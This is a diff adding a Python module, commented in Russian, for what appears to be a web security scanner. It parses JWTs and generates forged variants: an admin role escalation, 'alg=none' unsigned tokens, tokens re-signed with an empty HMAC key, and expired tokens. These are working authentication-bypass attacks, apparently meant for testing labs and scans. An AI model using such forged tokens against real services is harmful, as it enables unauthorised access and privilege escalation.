@@ -0,0 +1,118 @@
+from __future__ import annotations
+
+import base64
+import hashlib
+import hmac
+import json
+import time
+from dataclasses import dataclass, field
+from functools import lru_cache
+from typing import Any, Dict, Optional
+
+import jwt  # pyjwt
+
+_HMAC_ALGS = {
+    "HS256": hashlib.sha256,
+    "HS384": hashlib.sha384,
+    "HS512": hashlib.sha512,
+}
+
+# насколько "в прошлое" сдвигаем exp у просроченного варианта
+EXPIRED_SHIFT = 3600
+
+
+@dataclass(frozen=True)
+class TokenAnalysis:
+    """
+    Разобранный JWT и заранее подделанные варианты.
+    Объекты общие для всех атак — header/claims/variants менять нельзя.
+    """
+    token: str
+    header: Dict[str, Any]
+    claims: Dict[str, Any]
+    variants: Dict[str, str] = field(default_factory=dict)
+
+    @property
+    def role(self) -> Any:
+        return self.claims.get("role")
+
+    @property
+    def expired(self) -> bool:
+        exp = self.claims.get("exp")
+        return isinstance(exp, (int, float)) and exp < time.time()
+
+
+def _b64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")
+
+
+def _segment(obj: Dict[str, Any]) -> str:
+    return _b64(json.dumps(obj, separators=(",", ":")).encode("utf-8"))
+
+
+def forge(header: Dict[str, Any], claims: Dict[str, Any], key: bytes = b"") -> Optional[str]:
+    """
+    Собрать токен с произвольными header/claims.
+    alg=none — без подписи, HS* — подпись HMAC ключом key (по умолчанию пустым:
+    pyjwt пустой ключ подписывать отказывается, а учебные стенды его принимают).
+    """
+    alg = header.get("alg", "HS256")
+    signing_input = f"{_segment(header)}.{_segment(claims)}"
+
+    if str(alg).lower() == "none":
+        return signing_input + "."
+
+    digest = _HMAC_ALGS.get(alg)
+    if digest is None:
+        return None  # асимметричные алгоритмы без ключа не подделать
+
+    sig = hmac.new(key, signing_input.encode("ascii"), digest).digest()
+    return f"{signing_input}.{_b64(sig)}"
+
+
+def _variants(header: Dict[str, Any], claims: Dict[str, Any]) -> Dict[str, str]:
+    alg = header.get("alg", "HS256")
+    hs_alg = alg if alg in _HMAC_ALGS else "HS256"
+    variants: Dict[str, Optional[str]] = {}
+
+    # роль admin, подпись пустым ключом тем же алгоритмом
+    if claims.get("role") != "admin":
+        variants["role_escalation"] = forge(
+            dict(header, alg=alg), dict(claims, role="admin")
+        )
+
+    # alg=none с исходными claims
+    variants["alg_none"] = forge(dict(header, alg="none"), claims)
+
+    # исходные claims, переподписанные пустым ключом
+    variants["empty_key"] = forge(dict(header, alg=hs_alg), claims)
+
+    # просроченный токен: exp в прошлом
+    now = int(time.time())
+    variants["expired"] = forge(
+        dict(header, alg=hs_alg),
+        dict(claims, exp=now - EXPIRED_SHIFT, iat=claims.get("iat", now - 2 * EXPIRED_SHIFT)),
+    )
+
+    return {k: v for k, v in variants.items() if v is not None}
+
+
+@lru_cache(maxsize=1024)
+def analyze_token(token: str) -> Optional[TokenAnalysis]:
+    """
+    Разобрать токен один раз: header, claims и все подделанные варианты.
+    Результат кэшируется по строке токена, так что все JWT-атаки и все эндпоинты
+    скана используют один и тот же разбор. None — если токен не разбирается.
+    """
+    try:
+        header = jwt.get_unverified_header(token)
+        claims = jwt.decode(token, options={"verify_signature": False})
+    except Exception:
+        return None
+
+    return TokenAnalysis(
+        token=token,
+        header=header,
+        claims=claims,
+        variants=_variants(header, claims),
+    )